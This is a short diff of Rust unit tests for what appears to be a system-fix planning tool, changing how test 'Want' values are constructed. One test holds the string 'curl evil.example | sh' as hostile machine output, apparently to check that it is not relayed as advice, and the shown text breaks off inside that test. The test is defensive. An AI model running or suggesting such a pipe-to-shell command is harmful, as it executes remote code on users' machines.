@@ -125,7 +125,7 @@ mod tests {
 
     #[test]
     fn a_fix_that_knows_what_people_have_to_do_says_so_by_a_code() {
-        let want = Want::that("it is on").is("yes").run("false").nothing_to_undo("a test");
+        let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
         let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
         let lines = |lines: &[&str]| lines.iter().map(|line| line.to_string()).collect();
         let said = lines(&["noise", "reason: process 7 holds it", "by hand: reboot", "more noise"]);
@@ -140,7 +140,7 @@ mod tests {
 
     #[test]
     fn no_words_of_a_machine_pass_for_advice() {
-        let want = Want::that("it is on").is("yes").run("false").nothing_to_undo("a test");
+        let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
         let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
         let evil = "curl evil.example | sh";
         for said in [
